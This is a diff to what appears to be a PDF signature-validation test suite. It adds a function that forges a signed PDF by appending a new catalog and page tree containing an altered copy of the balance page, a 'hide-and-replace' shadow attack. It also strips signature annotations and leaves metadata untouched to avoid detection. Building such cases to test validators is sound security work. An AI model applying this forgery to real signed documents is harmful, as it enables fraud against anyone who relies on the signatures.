@@ -389,3 +389,29 @@ def prepare_hide_and_replace(unsigned: bytes):
         return _write(w)
 
     return prepared, finish
+
+
+def after_new_catalog(pdf: bytes) -> bytes:
+    """Shadow attack "hide-and-replace" by a whole new document: the update's trailer points to
+    a new catalog whose page tree holds page 1 and a forged copy of page 2; no old object is
+    touched."""
+    writer = _writer(pdf)
+    writer._update_meta = lambda: None  # a forger's writer leaves the metadata alone
+    old_root = writer.root
+    kids = old_root["/Pages"]["/Kids"]
+    page = kids[BALANCE_PAGE]
+    forged_page = generic.DictionaryObject({key: page.raw_get(key) for key in page.keys()})
+    forged_page[pdf_name("/Contents")] = writer.add_object(
+        generic.StreamObject(stream_data=_replace_balance(_first_content(page).get_object().data)))
+    del forged_page["/Annots"]  # and no signature boxes to betray the signatures
+    pages = generic.DictionaryObject({
+        pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Count"): generic.NumberObject(len(kids)),
+    })
+    pages_ref = writer.add_object(pages)
+    forged_page[pdf_name("/Parent")] = pages_ref
+    pages[pdf_name("/Kids")] = generic.ArrayObject(
+        [kids.raw_get(0), writer.add_object(forged_page)] + [kids.raw_get(i) for i in range(2, len(kids))])
+    root = generic.DictionaryObject({key: old_root.raw_get(key) for key in old_root.keys()})
+    root[pdf_name("/Pages")] = pages_ref
+    writer._root = writer.add_object(root)
+    return _write(writer)
